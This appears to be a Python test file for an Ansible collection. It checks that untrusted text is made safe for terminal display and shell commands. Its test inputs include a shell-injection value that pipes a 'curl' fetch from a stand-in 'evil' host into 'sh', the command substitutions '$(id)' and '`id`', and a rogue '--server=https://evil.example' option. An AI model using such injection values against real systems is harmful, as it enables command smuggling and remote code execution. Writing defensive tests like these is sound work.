# Copyright: (c) 2026, liqo.fabric contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Text of others on a terminal: no text leaves its line, obeys nothing and fills no screen."""

from __future__ import annotations

import json
import math
import re
import shlex
import unicodedata

import pytest
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.command import UNKNOWN, Option, command
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.legal import is_inert
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.terminal import (
    LONGEST,
    MOST_STACKED,
    inert,
    one_line,
    one_lines,
    printable,
)
from hypothesis import given
from hypothesis import strategies as st

ANYTHING = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.text(),
    lambda children: st.lists(children) | st.dictionaries(st.text(), children),
    max_leaves=10,
)


@pytest.mark.parametrize(
    ("odd", "shown"),
    [
        ("a\nb", "a b"),
        ("a\r\n\t b ", "a b"),
        ("a\u2028b\x85c", "a b c"),
        ("a\x1b[31mb", r"a\x1b[31mb"),
        ("\x9b2J", r"\x9b2J"),
        ("a\x00b", r"a\x00b"),
        ("a\u202eb", r"a\u202eb"),
        ("a\ud800", r"a\ud800"),
        ("Zürich, 東京", "Zürich, 東京"),
    ],
)
def test_what_is_not_printable_is_written_out(odd: str, shown: str) -> None:
    assert one_line(odd) == shown


@pytest.mark.parametrize("blank", "\u3164\u115f\u1160\uffa0\u2800\u034f\u180b\ufe0f\u17b4\U000e0100\U0001d159")
def test_letters_that_show_nothing_are_written_out(blank: str) -> None:
    assert one_line(f"leaf{blank}-a") == f"leaf{blank.encode('unicode_escape').decode()}-a"
    assert printable(blank) == one_line(blank)


def test_marks_without_end_are_written_out() -> None:
    shown = one_line("a" + "\u0301" * 20 + "b")
    assert shown == "a" + "\u0301" * MOST_STACKED + r"\u0301" * (20 - MOST_STACKED) + "b"
    # Nor do marks of other kinds in between begin anew.
    assert one_line("a" + "\u0301\u0903" * 20).count("\u0301") <= MOST_STACKED


@pytest.mark.parametrize("before", ["", " ", "a \n", "\u202e"])
def test_a_mark_without_a_letter_is_written_out(before: str) -> None:
    assert one_line(f"{before}\u0336").endswith(r"\u0336")


@pytest.mark.parametrize(
    "text",
    [
        unicodedata.normalize("NFD", "Zürich, Łódź, Việt Nam, Ṩ"),
        "שָׁלוֹם",
        "مُحَمَّد",
        "ที่นี่ น้ำ",
        "हिन्दी क्षत्रिय",
        "བསྒྲུབས",
        "မြန်မာ",
        "ភាសាខ្មែរ",
        "한국 東京 がぎ",
        "🚀 → ✓",
    ],
)
def test_letters_of_all_languages_stay_as_they_are(text: str) -> None:
    assert one_line(text) == text
    assert printable([text]) == [text]


ODD = st.text(alphabet=st.sampled_from("ab \n\u0301\u0316\u0488\u0903\u3164\ufe0f\u2800\u202e\u200d語"))


@given(ODD | st.text())
def test_what_is_shown_is_shown_again_in_the_same_way(text: str) -> None:
    shown = one_line(text)
    assert one_line(shown) == shown
    assert printable(shown) == shown
    marks = max((len(found) for found in re.findall(r"[\u0301\u0316\u0488]+", shown)), default=0)
    assert marks <= MOST_STACKED
    assert not set(shown) & set("\u3164\ufe0f\u2800")


@given(st.text(), st.integers(min_value=3, max_value=50))
def test_a_line_is_printable_and_not_longer_than_asked(text: str, longest: int) -> None:
    shown = one_line(text, longest=longest)
    assert shown.isprintable()
    assert len(shown) <= longest


def test_a_long_text_is_cut() -> None:
    assert one_line("x" * 10_000) == "x" * (LONGEST - 3) + "..."


@given(ANYTHING)
def test_every_text_of_a_result_is_printable_and_json_knows_every_number(result: object) -> None:
    text = json.dumps(printable(result), allow_nan=False, ensure_ascii=False)
    assert text.encode()
    assert text.replace("\\n", "").isprintable()


@given(ANYTHING)
def test_in_one_line_means_every_text_however_deep(result: object) -> None:
    assert json.dumps(one_lines(result), ensure_ascii=False).isprintable()


@given(ANYTHING)
def test_no_text_of_an_event_is_a_template(event: object) -> None:
    shown = json.dumps(inert(event), ensure_ascii=False)
    assert shown.isprintable()


@pytest.mark.parametrize("text", ["{{ x }}", "{{{{", "{%x", "{# x", "#jinja2:variable_start_string:'[['", "a {{{% b"])
def test_what_opens_a_template_is_broken_up(text: str) -> None:
    assert not is_inert(text)
    assert is_inert(inert(text))
    assert inert(text).replace(" ", "") == text.replace(" ", "")


@given(st.text(alphabet="{}%# ja2i:n\n"))
def test_however_it_is_spelled(text: str) -> None:
    assert is_inert(inert(text))


def test_printable_values_stay_as_they_are() -> None:
    result = {"a": ["b\n\tc", 1, 2.5, None, True], "d": ("e",)}
    assert printable(result) == {"a": ["b\n\tc", 1, 2.5, None, True], "d": ["e"]}
    assert printable([math.inf, -math.inf, math.nan]) == [None, None, None]


@pytest.mark.parametrize("word", ["x'; curl evil|sh; '", "$(id)", "`id`", "a b", "", "\\", '{"a":1}'])
def test_each_word_of_a_command_stays_one_word(word: str) -> None:
    assert shlex.split(command("ansible-playbook", word)) == ["ansible-playbook", word]


OPTIONS = ("-n", "--server=https://evil.example", "--all", "-", "--", "-A", "--overwrite")
NO_NAMES = (
    "a b",
    "A",
    "$(id)",
    "",
    "a/b/c",
    "/a",
    "a,",
    "a=b c",
    "=a",
    "a=-b",
    "https://evil.example",
    "a:b",
    "x" * 254,
)


@pytest.mark.parametrize("program", ["kubectl", "oc", "ansible-playbook", "python"])
@pytest.mark.parametrize("name", OPTIONS)
def test_no_name_of_a_cluster_is_an_option_of_a_command(program: str, name: str) -> None:
    assert command(program, Option("-n"), name, "get", name) == f"{program} -n {UNKNOWN} get {UNKNOWN}"


@pytest.mark.parametrize("name", NO_NAMES)
def test_what_is_no_name_of_an_object_is_no_word_for_kubectl(name: str) -> None:
    assert command("kubectl", "describe", "pod", name) == f"kubectl describe pod {UNKNOWN}"


@pytest.mark.parametrize(
    "word", ["gw-leaf-b", "a.b", "deployment/gw-b", "pods,services", "liqo.io/x=leaf-b", "x=", "NAME"]
)
def test_names_and_labels_stay_in_a_command(word: str) -> None:
    assert command("kubectl", "get", word) == f"kubectl get {word}"
